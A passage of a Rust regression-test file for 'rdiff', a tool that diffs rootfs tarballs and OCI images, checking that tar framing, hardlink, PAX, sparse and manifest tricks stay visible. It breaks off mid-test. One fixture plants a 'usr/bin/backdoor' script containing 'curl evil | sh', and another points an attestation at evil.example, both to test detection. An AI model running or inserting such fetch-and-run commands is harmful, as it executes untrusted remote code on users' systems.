//! Regressions for the holes an adversarial review found (named h1..h14, e3, d2, i1..i7
//! as in its index): each test rebuilds one reproducer's inputs and pins what rdiff must say
//! now — the exact set of visible (path, field) pairs in strict mode, under the rule
//! that concerns the case, and under `--semantic`, with the exit code each time (0 when
//! nothing is visible, 1 otherwise).
//!
//! The principle behind every expectation: a byte that differs between two inputs is
//! shown by some field; a rule hides a field only when the difference it names cannot
//! change what an extraction or a container sees; and a field is never explained away by
//! another one that the bytes do not support (a framing difference is no compression
//! difference, a changed file behind a hardlink is a changed hardlink).

mod support;

use std::io::Write;

use serde_json::Value;
use support::data::{gzip, zstd};
use support::oci::{self, Layout};
use support::paths::s;
use support::rawtar::{self, Hdr, finish, pax, pax_raw};
use support::report::{Pairs, diff_at as entry, field, ignored, set, visible};
use support::run::{json_report, rdiff};

// ---------------------------------------------------------------------------------
// helpers

/// What one run must give: the extra flags, and exactly these visible (path, field)
/// pairs (the exit code follows: 0 for none, 1 otherwise). A field written `name?` may
/// show or not: an over-report these tests do not pin (see
/// `bytes_do_not_repeat_value_differences`).
type Case<'a> = (&'a [&'a str], &'a [(&'a str, &'a str)]);

/// `rdiff CMD --format json FLAGS LEFT RIGHT`: the exit code and the report. Any error
/// (exit 2, or anything on standard error) fails the test.
fn run(cmd: &str, flags: &[&str], left: &str, right: &str) -> (i32, Value) {
    json_report(cmd, &[flags, &[left, right]].concat())
}

/// Check a report's visible differences against `want` (see [`Case`]).
fn assert_visible(rep: &Value, want: &[(&str, &str)], run: &str) {
    let must: Pairs = want
        .iter()
        .filter(|(_, f)| !f.ends_with('?'))
        .map(|(p, f)| (p.to_string(), f.to_string()))
        .collect();
    let may: Pairs = want
        .iter()
        .filter_map(|(p, f)| Some((p.to_string(), f.strip_suffix('?')?.to_string())))
        .collect();
    let shown = visible(rep);
    let allowed: Pairs = must.union(&may).cloned().collect();
    assert!(
        must.is_subset(&shown) && shown.is_subset(&allowed),
        "{run}: visible differences\n  got:  {shown:?}\n  want: {must:?}\n  may:  {may:?}\n  \
         ignored: {:?}",
        ignored(rep)
    );
}

/// Run every case on one pair and check its visible differences and exit code; the
/// reports, in the order of the cases.
fn check(cmd: &str, left: &str, right: &str, cases: &[Case]) -> Vec<Value> {
    cases
        .iter()
        .map(|&(flags, want)| {
            let (code, rep) = run(cmd, flags, left, right);
            let what = format!("rdiff {cmd} {flags:?}");
            assert_visible(&rep, want, &what);
            let want_code = if visible(&rep).is_empty() { 0 } else { 1 };
            assert_eq!(code, want_code, "{what}: exit code");
            rep
        })
        .collect()
}

/// Write two rootfs inputs (`a.EXT`, `b.EXT`) and run the cases on them, each with
/// `--read-identical` (so that equal bytes are read too).
fn check_rootfs(a: &[u8], b: &[u8], ext: &str, cases: &[Case]) -> Vec<Value> {
    let t = tempfile::tempdir().unwrap();
    let (pa, pb) = (
        t.path().join(format!("a.{ext}")),
        t.path().join(format!("b.{ext}")),
    );
    std::fs::write(&pa, a).unwrap();
    std::fs::write(&pb, b).unwrap();
    let flags: Vec<Vec<&str>> = cases
        .iter()
        .map(|&(f, _)| [&["--read-identical"], f].concat())
        .collect();
    let cases: Vec<Case> = cases
        .iter()
        .zip(&flags)
        .map(|(&(_, want), f)| (&f[..], want))
        .collect();
    check("rootfs", s(&pa), s(&pb), &cases)
}

/// A regular file member.
fn file(name: &str, data: &[u8]) -> Vec<u8> {
    Hdr::new(name).member(data)
}

/// A hardlink member `name` -> `target`.
fn hardlink(name: &str, target: &str) -> Vec<u8> {
    Hdr::new(name).typeflag(b'1').linkname(target).block()
}

// ---------------------------------------------------------------------------------
// rootfs tarballs

/// h9. When the input's SHA-256 was the only difference of two compressed inputs, rdiff
/// called it `compression.encoding` ("same decompressed stream, other compressed
/// bytes") without looking at the decompressed streams: any framing difference of the
/// decoded tar (here a PAX length prefix `9 uid=12` vs `10 uid=12`) became a compression
/// difference, hidden by `--ignore-compression`. Now the framing is an entry `header`
/// difference, which `--ignore-compression` leaves visible (only `--ignore-tar-format`
/// hides it); and the same stream compressed twice at other levels (same window) is
/// `compression.encoding`.
#[test]
fn h9_decoded_framing_is_not_a_compression_difference() {
    let tar = |prefix: &[u8]| {
        finish(&[
            &pax_raw(b'x', prefix),
            &Hdr::new("f").uid(12).member(b"hello\n"),
        ])
    };
    let (a, b) = (tar(b"9 uid=12\n"), tar(b"10 uid=12\n"));
    assert_ne!(a, b);
    let framing = &[("input", "sha256"), ("f", "header")];
    let reps = check_rootfs(
        &zstd(&a, 19),
        &zstd(&b, 19),
        "tar.zst",
        &[
            (&[], framing),
            (&["--ignore-compression"], framing),
            (&["--ignore-tar-format"], &[]),
            (&["--semantic"], &[]),
        ],
    );
    assert!(
        !ignored(&reps[3]).iter().any(|(_, f)| f == "compression"),
        "framing hidden as compression: {:?}",
        ignored(&reps[3])
    );

    // The same decoded stream at two levels: single-segment frames, so the same window
    // (the content size); only the compressed bytes differ.
    let (z1, z19) = (zstd(&a, 1), zstd(&a, 19));
    assert_ne!(z1, z19);
    let encoding = &[("input", "sha256"), ("input", "compression.encoding")];
    let reps = check_rootfs(
        &z1,
        &z19,
        "tar.zst",
        &[
            (&[], encoding),
            (&["--ignore-compression"], &[]),
            (&["--semantic"], &[]),
        ],
    );
    let f = field(&reps[0], "input", "compression.encoding");
    assert_eq!(
        (&f["left"], &f["right"]),
        (
            &format!("{} compressed bytes", z1.len()).into(),
            &format!("{} compressed bytes", z19.len()).into()
        )
    );
}

/// h3. A hardlink to a path that a later member replaces extracts (GNU tar, bsdtar) to
/// the content the path had when the link was read; rdiff gave the link the last
/// member's content, so `[a(X), h->a, a(Y)]` and `[a(Y), h->a, a(Y)]` were equal under
/// `--semantic`. Now `h` has a `content` difference, in every mode.
#[test]
fn h3_hardlink_to_a_path_replaced_later() {
    let (x, y) = (file("a", b"XXXX original\n"), file("a", b"YYYY replaced\n"));
    let h = hardlink("h", "a");
    check_rootfs(
        &finish(&[&x, &h, &y]),
        &finish(&[&y, &h, &y]),
        "tar",
        &[
            (
                &[],
                &[("input", "sha256"), ("a", "header"), ("h", "content")],
            ),
            (&["--semantic"], &[("input", "sha256"), ("h", "content")]),
        ],
    );
}

/// h12. Hardlink chains (`h2 -> h1 -> f`) were resolved one level only: `h2` had no
/// content, so a change of what it extracts to showed only at `f` (and not at all with
/// `f` left out). Now every link of the chain has `f`'s content.
#[test]
fn h12_hardlink_chain_carries_the_content() {
    let tar = |content: &[u8]| {
        finish(&[
            &file("f", content),
            &hardlink("h1", "f"),
            &hardlink("h2", "h1"),
        ])
    };
    let all = &[
        ("input", "sha256"),
        ("f", "content"),
        ("h1", "content"),
        ("h2", "content"),
    ];
    check_rootfs(
        &tar(b"good\n"),
        &tar(b"evil\n"),
        "tar",
        &[
            (&[], all),
            (&["--semantic"], all),
            (
                &["--ignore-path", "f"],
                &[("input", "sha256"), ("h1", "content"), ("h2", "content")],
            ),
        ],
    );
}

/// h7. Typeflag `\0` (old regular file) with a trailing slash is a directory for GNU tar,
/// bsdtar, Python and Go in any header format; rdiff read a directory only in v7
/// headers, so a regular file `d` against `\0` + `d/` was equal under
/// `--treat-canonical-paths-equal`. Now it is a directory: against a `5` directory only
/// the header differs, against a regular file the type does.
#[test]
fn h7_old_regular_typeflag_with_slash_is_a_directory() {
    let areg_dir = finish(&[&Hdr::new("d/").typeflag(0).mode(0o755).block()]);
    let dir = finish(&[&Hdr::new("d/").typeflag(b'5').mode(0o755).block()]);
    check_rootfs(
        &dir,
        &areg_dir,
        "tar",
        &[
            (&[], &[("input", "sha256"), ("d", "header")]),
            (&["--semantic"], &[]),
        ],
    );

    let areg_file = finish(&[&Hdr::new("d").typeflag(0).mode(0o755).block()]);
    let kind = &[("input", "sha256"), ("d", "type"), ("d", "content")];
    let reps = check_rootfs(
        &areg_file,
        &areg_dir,
        "tar",
        &[
            (
                &[],
                &[
                    ("input", "sha256"),
                    ("d", "type"),
                    ("d", "content"),
                    ("d", "path_spelling"),
                ],
            ),
            (&["--treat-canonical-paths-equal"], kind),
            (&["--semantic"], kind),
        ],
    );
    let d = entry(&reps[2], "d");
    assert_eq!(
        (&d["left_type"], &d["right_type"]),
        (&"file".into(), &"dir".into())
    );
}

/// h6. `--ignore-file-mode-redundant-bits` ("the file-type bits only") compared only the
/// low 12 bits, so any difference above them was hidden too: `0644` vs `07600644` (bits
/// that are no file-type bits). Now only `S_IFMT` bits that agree with the entry's type
/// are redundant: `0644` vs `0100644` on a regular file is hidden, `07600644` is not.
#[test]
fn h6_mode_bits_above_the_file_type_count() {
    let tar = |mode: u64| finish(&[&Hdr::new("f").mode(mode).member(b"hello\n")]);
    let mode = &[("input", "sha256"), ("f", "mode")];
    check_rootfs(
        &tar(0o644),
        &tar(0o7600644),
        "tar",
        &[
            (&[], mode),
            (&["--ignore-file-mode-redundant-bits"], mode),
            (&["--semantic"], mode),
        ],
    );
    check_rootfs(
        &tar(0o644),
        &tar(0o100644),
        "tar",
        &[
            (&[], mode),
            (&["--ignore-file-mode-redundant-bits"], &[]),
            (&["--semantic"], &[]),
        ],
    );
}

/// h14. PAX records that readers apply on extraction but rdiff did not decode went only
/// into the `header` digest, which `--ignore-tar-format` (so `--semantic`) hides:
/// `SCHILY.fflags` (bsdtar sets file flags such as append-only) and
/// `RHT.security.selinux` (GNU tar's SELinux label). Now they are `pax.SCHILY.fflags`
/// and `xattrs.security.selinux`, visible under `--semantic`; a record about the source
/// file system (`SCHILY.ino`) is `pax.SCHILY.ino`, which `--ignore-tar-format` hides.
#[test]
fn h14_pax_records_that_extraction_applies() {
    let tar = |key: &str, value: &str| {
        finish(&[
            &pax(&[(key, value.as_bytes())]),
            &Hdr::new("usr/bin/tool").mode(0o755).member(b"#!/bin/sh\n"),
        ])
    };
    let pair = |key: &str, a: &str, b: &str| (tar(key, a), tar(key, b));

    let (a, b) = pair("SCHILY.fflags", "nodump", "uappnd");
    let fflags = &[("input", "sha256"), ("usr/bin/tool", "pax.SCHILY.fflags")];
    check_rootfs(
        &a,
        &b,
        "tar",
        &[
            (&[], fflags),
            (&["--ignore-tar-format"], fflags),
            (&["--semantic"], fflags),
        ],
    );
    // A directory has no PAX records: `pax.*` is compared between archives only, as
    // `format` is (the directory GNU tar extracts `a` to shows none).
    let t = tempfile::tempdir().unwrap();
    let (archive, dir) = (t.path().join("a.tar"), t.path().join("x"));
    std::fs::write(&archive, &a).unwrap();
    std::fs::create_dir(&dir).unwrap();
    let out = std::process::Command::new("tar")
        .arg("-xf")
        .arg(&archive)
        .arg("-C")
        .arg(&dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let (_, rep) = run("rootfs", &[], s(&dir), s(&archive));
    let names: Vec<String> = rep["differences"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|d| d["fields"].as_array().unwrap().clone())
        .map(|f| f["name"].as_str().unwrap().to_string())
        .collect();
    assert!(!names.iter().any(|n| n.starts_with("pax.")), "{names:?}");
    assert!(names.iter().any(|n| n == "format"), "{names:?}");

    let (a, b) = pair(
        "RHT.security.selinux",
        "system_u:object_r:bin_t:s0",
        "system_u:object_r:unconfined_exec_t:s0",
    );
    let label = &[
        ("input", "sha256"),
        ("usr/bin/tool", "xattrs.security.selinux"),
    ];
    check_rootfs(
        &a,
        &b,
        "tar",
        &[
            (&[], label),
            (&["--ignore-tar-format"], label),
            (&["--semantic"], label),
        ],
    );

    let (a, b) = pair("SCHILY.ino", "1234", "5678");
    check_rootfs(
        &a,
        &b,
        "tar",
        &[
            (
                &[],
                &[("input", "sha256"), ("usr/bin/tool", "pax.SCHILY.ino")],
            ),
            (&["--ignore-tar-format"], &[]),
            (&["--semantic"], &[]),
        ],
    );
}

/// h1. A PAX global header (or a volume label, or an `x` header then a `g` header)
/// after the last member, before the end marker, was in no digest: the inputs differed
/// only by their SHA-256. Now it is the input's `trailer` (hidden by
/// `--ignore-tar-format`: it applies to no file).
#[test]
fn h1_members_after_the_last_file_are_the_trailer() {
    let f = file("f", b"hello\n");
    let global = |c: &str| pax_raw(b'g', &rawtar::pax_record("comment", c));
    let volume = |n: &str| Hdr::new(n).typeflag(b'V').block();
    let x = |p: &str| pax(&[("path", p.as_bytes())]);
    let pairs = [
        (
            finish(&[&f, &global("built by A")]),
            finish(&[&f, &global("built by B, with a note")]),
        ),
        (
            finish(&[&f, &volume("VOLUME-A")]),
            finish(&[&f, &volume("VOLUME-B")]),
        ),
        (
            finish(&[&f, &x("evil"), &global("built by A")]),
            finish(&[&f, &x("other"), &global("built by A")]),
        ),
    ];
    for (a, b) in pairs {
        check_rootfs(
            &a,
            &b,
            "tar",
            &[
                (&[], &[("input", "sha256"), ("input", "trailer")]),
                (&["--ignore-tar-format"], &[]),
                (&["--semantic"], &[]),
            ],
        );
    }
}

/// h4. A PAX record of 7 bytes has two self-consistent length prefixes (`9 uid=12` and
/// `10 uid=12`), and the framing digest recorded only "no leading zero"; a time with
/// more than 255 digits had its digit count capped. Both pairs were identical apart
/// from the input's SHA-256. Now both are `header` differences.
#[test]
fn h4_pax_length_prefix_and_long_time_spelling() {
    let f = Hdr::new("f").uid(12).member(b"hello\n");
    let with = |records: &[u8]| finish(&[&pax_raw(b'x', records), &f]);
    let header = &[("input", "sha256"), ("f", "header")];
    let cases: &[Case] = &[
        (&[], header),
        (&["--ignore-tar-format"], &[]),
        (&["--semantic"], &[]),
    ];
    check_rootfs(&with(b"9 uid=12\n"), &with(b"10 uid=12\n"), "tar", cases);

    let mtime = |zeros: usize| {
        let v = format!("{}1700000000", "0".repeat(zeros));
        with(&rawtar::pax_record("mtime", v))
    };
    check_rootfs(&mtime(300), &mtime(280), "tar", cases);
}

/// h5. GNU long-name data `name\0` and `name\0\0\0\0` (or `name` with no NUL) went into
/// the framing digest alike, and the data length nowhere. Now the entry's `header`
/// differs.
#[test]
fn h5_gnu_long_name_nul_run() {
    let name = format!("d/{}", "n".repeat(120));
    let f = Hdr::new(&name.as_bytes()[..100]).gnu().member(b"hello\n");
    let tar = |data: &[u8]| finish(&[&pax_raw(b'L', data), &f]);
    let nul = |n: usize| [name.as_bytes(), &vec![0; n]].concat();
    let header = &[("input", "sha256"), (name.as_str(), "header")];
    let cases: &[Case] = &[(&[], header), (&["--semantic"], &[])];
    check_rootfs(&tar(&nul(1)), &tar(&nul(4)), "tar", cases);
    check_rootfs(&tar(&nul(1)), &tar(&nul(0)), "tar", cases);
}

/// h2. An earlier duplicate of a path was folded into the later member's header without
/// its position: `[f(old), g, f(new)]` and `[g, f(old), f(new)]` were identical apart
/// from the input's SHA-256. Now `f` has a `header` difference.
#[test]
fn h2_earlier_duplicate_moved() {
    let (f1, g, f2) = (file("f", b"old\n"), file("g", b"g\n"), file("f", b"new\n"));
    check_rootfs(
        &finish(&[&f1, &g, &f2]),
        &finish(&[&g, &f1, &f2]),
        "tar",
        &[
            (&[], &[("input", "sha256"), ("f", "header")]),
            (&["--ignore-tar-format"], &[]),
            (&["--semantic"], &[]),
        ],
    );
}

/// h8. A GNU dumpdir (`D`) member's data went into the framing digest chunk by chunk,
/// with no lengths: the digest depended on where the reader's buffers ended, so the
/// same tar plain and compressed (or from a file and from a pipe) had other `header`
/// digests. Now the same bytes from a file and from standard input (written to a pipe
/// in odd pieces) are identical, and plain against gzip differs only by `compression`.
#[test]
fn h8_dumpdir_does_not_depend_on_read_chunks() {
    let mut data: Vec<u8> = (0..300_000)
        .flat_map(|i| format!("Yfile{i:06}\0").into_bytes())
        .collect();
    data.push(0);
    let tar = finish(&[
        &Hdr::new("dir/")
            .typeflag(b'D')
            .mode(0o755)
            .gnu()
            .member(&data),
        &Hdr::new("dir/file000001").gnu().member(b"hello\n"),
    ]);
    let t = tempfile::tempdir().unwrap();
    let plain = t.path().join("d.tar");
    std::fs::write(&plain, &tar).unwrap();

    let out = rdiff([
        "rootfs",
        "--format",
        "json",
        "--read-identical",
        s(&plain),
        "-",
    ])
    .stdin_with(move |mut stdin| {
        let sizes = [1, 511, 4097, 65_537, 7, 100_003];
        let (mut off, mut i) = (0, 0);
        while off < tar.len() {
            let n = sizes[i % sizes.len()].min(tar.len() - off);
            stdin.write_all(&tar[off..off + n]).unwrap();
            stdin.flush().unwrap();
            off += n;
            i += 1;
        }
    })
    .run();
    assert!(out.stderr.is_empty(), "{}", out.stderr);
    let rep = out.json();
    assert_eq!(visible(&rep), set(&[]));
    assert_eq!(out.status, Some(0));
    assert_eq!(rep["identical"], true);

    check_rootfs(
        &std::fs::read(&plain).unwrap(),
        &gzip(&std::fs::read(&plain).unwrap()),
        "tar",
        &[
            (&[], &[("input", "sha256"), ("input", "compression")]),
            (&["--ignore-compression"], &[]),
        ],
    );
}

/// e3. An unknown typeflag (`Z`) is extracted as a regular file by GNU tar, bsdtar,
/// Python and Go; rdiff kept a kind of its own, so `0` against `Z` with the same content
/// was a `type` difference even under `--semantic`. Now it is a regular file whose
/// header differs.
#[test]
fn e3_unknown_typeflag_is_a_regular_file() {
    let reps = check_rootfs(
        &finish(&[&file("f", b"hi\n")]),
        &finish(&[&Hdr::new("f").typeflag(b'Z').member(b"hi\n")]),
        "tar",
        &[
            (&[], &[("input", "sha256"), ("f", "header")]),
            (&["--ignore-tar-format"], &[]),
            (&["--semantic"], &[]),
        ],
    );
    let f = entry(&reps[0], "f");
    assert_eq!(
        (&f["left_type"], &f["right_type"]),
        (&"file".into(), &"file".into())
    );
}

/// d2. Old GNU sparse members whose holes add up past `--max-uncompressed-size` (each
/// one well under it, the archive a few KB): the limit counted the stored stream only,
/// so rdiff hashed all the zeros. Now the holes count against a budget of their own
/// (`--max-sparse-holes`, issue 13: holes cost no reading, so they do not count against
/// `--max-uncompressed-size`, and no limit is fixed that a flag cannot lift): exit 2
/// with that limit's message; under a budget above their sum the archive compares fine.
#[test]
fn d2_sparse_holes_add_up_to_the_size_limit() {
    let hole: u64 = 512 << 10;
    let members: Vec<Vec<u8>> = (0..40)
        .map(|i| {
            Hdr::new(format!("s{i:04}"))
                .typeflag(b'S')
                .gnu()
                .patch(386, rawtar::octal(hole - 1, 12)) // one chunk at the end,
                .patch(398, rawtar::octal(0, 12)) // of no bytes
                .patch(483, rawtar::octal(hole, 12)) // real size
                .block()
        })
        .collect();
    let refs: Vec<&[u8]> = members.iter().map(Vec::as_slice).collect();
    let tar = finish(&refs);
    assert!(tar.len() < 40 << 10);
    let t = tempfile::tempdir().unwrap();
    let p = t.path().join("sparse.tar");
    std::fs::write(&p, &tar).unwrap();

    let out = rdiff([
        "rootfs",
        "--read-identical",
        "--max-sparse-holes",
        "10000000",
    ])
    .args([&p, &p])
    .run();
    assert_eq!(out.status, Some(2));
    let err = &out.stderr;
    assert!(
        err.contains("the sparse members' holes are over 10000000 bytes (--max-sparse-holes)"),
        "{err}"
    );

    check(
        "rootfs",
        s(&p),
        s(&p),
        &[
            (&["--read-identical", "--max-sparse-holes", "30000000"], &[]),
            // The stream as stored is a few KB: the uncompressed limit is not the holes'.
            (
                &["--read-identical", "--max-uncompressed-size", "100000"],
                &[],
            ),
        ],
    );
}

// ---------------------------------------------------------------------------------
// images

/// i4. An OCI layout's `oci-layout` file was only checked for existence: any content
/// was identical. Now its content is the index's `oci_layout` field (hidden by
/// `--ignore-manifest-format`, so `--semantic`: it is no part of the image).
#[test]
fn i4_oci_layout_file_contents() {
    let t = tempfile::tempdir().unwrap();
    let a = Layout::copy("oci/base", &t.path().join("a"), "base");
    for (i, content) in [r#"{"imageLayoutVersion":"9.9.9"}"#, "this is not JSON"]
        .iter()
        .enumerate()
    {
        let b = Layout::copy("oci/base", &t.path().join(format!("b{i}")), "base");
        std::fs::write(b.dir.join("oci-layout"), content).unwrap();
        check(
            "image",
            &a.path(),
            &b.path(),
            &[
                (&[], &[("index", "oci_layout")]),
                (&["--ignore-manifest-format"], &[]),
                (&["--semantic"], &[]),
            ],
        );
    }
}

/// i5. A layer that is no tar (an in-toto provenance statement in a BuildKit
/// attestation manifest) was compared only by its descriptor digest, so
/// `--ignore-descriptor-digests` ("what they point to is compared instead") hid any
/// change to it. Now the layer's `blob` differs, under that rule and under `--semantic`.
#[test]
fn i5_attestation_layer_content() {
    let t = tempfile::tempdir().unwrap();
    let a = Layout::copy("oci/multi", &t.path().join("a"), "multi");
    let b = Layout::copy("oci/multi", &t.path().join("b"), "multi");
    let att = b.manifest(2);
    assert_eq!(
        att["layers"][0]["mediaType"],
        "application/vnd.in-toto+json"
    );
    b.edit_text(att["layers"][0]["digest"].as_str().unwrap(), |s| {
        s.replace(
            r#""builder":{"id":""}"#,
            r#""builder":{"id":"https://evil.example/builder"}"#,
        )
    });
    let blob = &[("attestation/linux/amd64/layers/0", "blob")];
    check(
        "image",
        &a.path(),
        &b.path(),
        &[
            (
                &[],
                &[
                    ("attestation/linux/amd64/manifest", "digest"),
                    ("attestation/linux/amd64/layers/0", "digest"),
                    ("attestation/linux/amd64/layers/0", "size"),
                    ("attestation/linux/amd64/layers/0", "blob"),
                ],
            ),
            (&["--ignore-descriptor-digests"], blob),
            (&["--semantic"], blob),
        ],
    );
}

/// i6. Two extra layers, one adding `usr/bin/backdoor` and one whiting it out: the
/// layer counts differ, so the images are compared squashed, and only descriptor
/// digests showed the change (hidden by `--ignore-descriptor-digests`). Now the
/// manifest's `layers` and the config's `rootfs.diff_ids` differ under that rule; only
/// `--ignore-layer-split` (so `--semantic`) hides them, the squashed trees being equal.
#[test]
fn i6_layer_pair_adding_and_whiting_out_a_file() {
    let t = tempfile::tempdir().unwrap();
    let a = Layout::copy("oci/base", &t.path().join("a"), "base");
    let b = Layout::copy("oci/base", &t.path().join("b"), "base");
    let payload = finish(&[&file("usr/bin/backdoor", b"#!/bin/sh\ncurl evil | sh\n")]);
    let whiteout = finish(&[&file("usr/bin/.wh.backdoor", b"")]);
    let (dp, dw) = (b.put(&payload).0, b.put(&whiteout).0);
    b.edit_text(&b.config_digest(0), |s| {
        s.replace(
            r#""]},"history""#,
            &format!(r#"","{dp}","{dw}"]}},"history""#),
        )
    });
    b.edit_text(&b.manifest_digest(0), |s| {
        let tar = "application/vnd.oci.image.layer.v1.tar";
        let layer =
            |d: &str, n: usize| format!(r#"{{"mediaType":"{tar}","digest":"{d}","size":{n}}}"#);
        s.replace(
            r#"}],"annotations""#,
            &format!(
                r#"}},{},{}],"annotations""#,
                layer(&dp, payload.len()),
                layer(&dw, whiteout.len())
            ),
        )
    });
    assert_eq!(b.manifest(0)["layers"].as_array().unwrap().len(), 4);
    check(
        "image",
        &a.path(),
        &b.path(),
        &[
            (
                &[],
                &[
                    ("manifest", "digest"),
                    ("manifest", "size"),
                    ("manifest", "layers"),
                    ("manifest", "bytes?"),
                    ("config", "digest"),
                    ("config", "size"),
                    ("config", "rootfs.diff_ids"),
                    ("config", "bytes?"),
                ],
            ),
            (
                &["--ignore-descriptor-digests"],
                &[
                    ("manifest", "layers"),
                    ("manifest", "bytes?"),
                    ("config", "rootfs.diff_ids"),
                    ("config", "bytes?"),
                ],
            ),
            (
                &["--ignore-layer-split"],
                &[
                    ("manifest", "digest"),
                    ("manifest", "size"),
                    ("manifest", "bytes?"),
                    ("config", "digest"),
                    ("config", "size"),
                    ("config", "bytes?"),
                ],
            ),
            (&["--semantic"], &[]),
        ],
    );
}

/// i1. A config whose bytes spell the same JSON otherwise (an escape that need not be
/// there, other spacing) showed only in descriptor digests, hidden by
/// `--ignore-descriptor-digests`: manifests and configs had no `bytes` field. Now the
/// config's `bytes` differ under that rule (and `--ignore-manifest-format` hides them).
#[test]
fn i1_config_bytes_with_the_same_json() {
    let t = tempfile::tempdir().unwrap();
    let a = Layout::copy("oci/base", &t.path().join("a"), "base");
    let escape = |s: String| s.replace(r#""os":"linux""#, r#""os":"\u006cinux""#);
    let spacing = |s: String| s.replace(r#""os":"linux","#, "\"os\":  \"linux\" ,\n ");
    for (i, edit) in [escape, spacing].into_iter().enumerate() {
        let b = Layout::copy("oci/base", &t.path().join(format!("b{i}")), "base");
        b.edit_text(&b.config_digest(0), edit);
        check(
            "image",
            &a.path(),
            &b.path(),
            &[
                (
                    &[],
                    &[
                        ("manifest", "digest"),
                        ("config", "digest"),
                        ("config", "size"),
                        ("config", "bytes"),
                    ],
                ),
                (&["--ignore-descriptor-digests"], &[("config", "bytes")]),
                (
                    &["--ignore-manifest-format"],
                    &[
                        ("manifest", "digest"),
                        ("config", "digest"),
                        ("config", "size"),
                    ],
                ),
                (&["--semantic"], &[]),
            ],
        );
    }
}

/// i2. The index's `bytes` were left out as soon as any index or manifest field
/// differed, even one a rule hides: index.json spacing went unseen under
/// `--ignore-image-name` when an image-name annotation changed too. Now `bytes` stay
/// visible under that rule (and under `--ignore-annotation` for that key).
#[test]
fn i2_index_spelling_beside_an_image_name() {
    let t = tempfile::tempdir().unwrap();
    let a = Layout::copy("oci/base", &t.path().join("a"), "base");
    let name = |s: &str| {
        s.replace(
            r#""annotations":{"#,
            r#""annotations":{"io.containerd.image.name":"example.invalid/x:v1","#,
        )
    };
    let annotation = ("manifest", "annotations.io.containerd.image.name");

    let b = Layout::copy("oci/base", &t.path().join("b"), "base");
    let index = String::from_utf8(b.index_bytes()).unwrap();
    let spaced: Value = serde_json::from_str(&name(&index)).unwrap();
    let pretty = serde_json::to_string_pretty(&spaced).unwrap() + "\n\n\n";
    std::fs::write(b.dir.join("index.json"), pretty).unwrap();
    check(
        "image",
        &a.path(),
        &b.path(),
        &[
            (&[], &[("index", "bytes"), annotation]),
            (&["--ignore-image-name"], &[("index", "bytes")]),
            (
                &["--ignore-annotation", "io.containerd.image.name"],
                &[("index", "bytes")],
            ),
            (&["--semantic"], &[]),
        ],
    );
}

/// Not a hole but a known over-report of the `bytes` fields (i1, i2; docs/tricky-cases.md).
/// Their spelling digest takes in an object's keys and an array's commas, so a
/// difference that a value field already shows (an annotation added, a longer `layers`
/// list) makes `bytes` differ too, and the rule that hides the value leaves `bytes`
/// visible until `--ignore-manifest-format` (in `--semantic`) hides it. Conservative:
/// never "equal" for other bytes. This test pins the behaviour; a pairwise spelling
/// comparison that drops keys present on one side only would change it.
#[test]
fn bytes_repeat_structural_differences_until_manifest_format_is_ignored() {
    let t = tempfile::tempdir().unwrap();
    let a = Layout::copy("oci/base", &t.path().join("a"), "base");
    let c = Layout::copy("oci/base", &t.path().join("c"), "base");
    let index = String::from_utf8(c.index_bytes()).unwrap();
    let added = index.replace(
        r#""annotations":{"#,
        r#""annotations":{"io.containerd.image.name":"example.invalid/x:v1","#,
    );
    std::fs::write(c.dir.join("index.json"), added).unwrap();
    check(
        "image",
        &a.path(),
        &c.path(),
        &[
            (
                &[],
                &[
                    ("index", "bytes"),
                    ("manifest", "annotations.io.containerd.image.name"),
                ],
            ),
            (&["--ignore-image-name"], &[("index", "bytes")]),
            (&["--ignore-image-name", "--ignore-manifest-format"], &[]),
        ],
    );

    let img = |n: &str| support::paths::testdata(&format!("image/oci/{n}"));
    let split: &[&str] = &[
        "--ignore-layer-split",
        "--ignore-descriptor-digests",
        "--ignore-history",
    ];
    let split_format = [split, &["--ignore-manifest-format"]].concat();
    check(
        "image",
        s(&img("squash-2")),
        s(&img("squash-3")),
        &[
            (split, &[("config", "bytes"), ("manifest", "bytes")]),
            (&split_format, &[]),
        ],
    );
}

/// The base docker-archive with one more member appended (before the end marker).
fn docker_archive_with(extra: &[u8]) -> Vec<u8> {
    let base = support::paths::read_testdata("image/archives/base.docker-archive.tar");
    let end = rawtar::end_of_members(&base);
    finish(&[&base[..end], extra])
}

/// i3. In an image archive, a member larger than 1 MiB that no manifest references was
/// in no digest: only the archive's SHA-256 showed it, and compressed it was called
/// `compression.encoding` (hidden by `--ignore-compression`). Now it is the input's
/// `archive` field beside `sha256`, plain and gzip-compressed, which only
/// `--ignore-tar-format` hides.
#[test]
fn i3_unreferenced_large_archive_member() {
    let t = tempfile::tempdir().unwrap();
    let member = |c: u8| file("unreferenced.bin", &vec![c; 2 << 20]);
    let (a, b) = (
        docker_archive_with(&member(b'A')),
        docker_archive_with(&member(b'B')),
    );
    let archive = &[("input", "sha256"), ("input", "archive")];
    for (ext, a, b) in [
        ("tar", a.clone(), b.clone()),
        ("tar.gz", gzip(&a), gzip(&b)),
    ] {
        let (pa, pb) = (
            t.path().join(format!("a.{ext}")),
            t.path().join(format!("b.{ext}")),
        );
        std::fs::write(&pa, a).unwrap();
        std::fs::write(&pb, b).unwrap();
        check(
            "image",
            &format!("docker-archive:{}", s(&pa)),
            &format!("docker-archive:{}", s(&pb)),
            &[
                (&[], archive),
                (&["--ignore-compression"], archive),
                (&["--ignore-tar-format"], &[]),
                (&["--semantic"], &[]),
            ],
        );
    }
}

/// i7. In an image archive, a member over 1 MiB (a layer blob) had neither its data nor
/// the padding after it in the archive digest: bytes in that padding changed only the
/// archive's SHA-256. Now they are the input's `archive` field beside `sha256`.
#[test]
fn i7_bytes_in_the_padding_after_a_layer_blob() {
    let t = tempfile::tempdir().unwrap();
    let l = Layout::copy("oci/base", t.path(), "base");
    // A layer of 1.5 MiB of noise (gzip cannot shrink it under 1 MiB).
    let mut rng = support::data::Rng::new(7);
    let (layer, gz) = (100..)
        .map(|extra| {
            let tar = finish(&[&file("big.bin", &rng.bytes((3 << 19) + extra))]);
            let gz = gzip(&tar);
            (tar, gz)
        })
        .find(|(_, gz)| gz.len() % 512 != 0)
        .unwrap();
    assert!(gz.len() > 1 << 20);
    let m = l.manifest(0);
    let old_diff_id = l.config(0)["rootfs"]["diff_ids"][1]
        .as_str()
        .unwrap()
        .to_string();
    let gz_digest = l.replace_blob(m["layers"][1]["digest"].as_str().unwrap(), &gz);
    l.edit_text(&l.config_digest(0), |s| {
        s.replace(&old_diff_id, &oci::digest(&layer))
    });

    // The layout as an oci-archive: index.json, oci-layout and the blobs it uses.
